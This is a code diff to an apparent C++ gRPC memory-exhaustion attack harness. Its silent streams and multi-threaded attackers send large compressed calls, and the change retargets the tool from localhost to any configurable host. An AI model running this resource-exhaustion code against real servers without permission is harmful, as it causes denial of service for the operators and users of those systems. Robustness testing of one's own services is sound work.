@@ -25,10 +25,10 @@ constexpr std::size_t kLarge = 4'000'000;
 constexpr std::size_t kMedium = 600'000;
 constexpr absl::Duration kTimeout = absl::Seconds(20);
 
-std::shared_ptr<grpc::Channel> NewConnection(int port) {
+std::shared_ptr<grpc::Channel> NewConnection(const MemoryAttack& attack) {
   grpc::ChannelArguments arguments;
   arguments.SetInt(GRPC_ARG_USE_LOCAL_SUBCHANNEL_POOL, 1);
-  return grpc::CreateCustomChannel(fmt::format("127.0.0.1:{}", port),
+  return grpc::CreateCustomChannel(fmt::format("{}:{}", attack.host, attack.port),
                                    grpc::InsecureChannelCredentials(), arguments);
 }
 
@@ -95,7 +95,7 @@ grpc::Status CallCompressed(const std::shared_ptr<grpc::Channel>& channel,
 }  // namespace
 
 AttackResult Run(const MemoryAttack& attack) {
-  const auto silent_connection = NewConnection(attack.port);
+  const auto silent_connection = NewConnection(attack);
   std::vector<std::unique_ptr<SilentStream>> streams;
   for (int i = 0; i < kSilentStreams && !attack.stream.empty(); ++i) {
     streams.push_back(std::make_unique<SilentStream>(silent_connection, attack.stream));
@@ -120,7 +120,7 @@ AttackResult Run(const MemoryAttack& attack) {
   std::vector<std::thread> attackers;
   for (int i = 0; i < kAttackers; ++i) {
     attackers.emplace_back([&] {
-      const auto channel = NewConnection(attack.port);
+      const auto channel = NewConnection(attack);
       const auto options = rpc::WithTimeout(kTimeout);
       for (int round = 0; round < kRounds; ++round) {
         for (const Wire& wire : wires) {
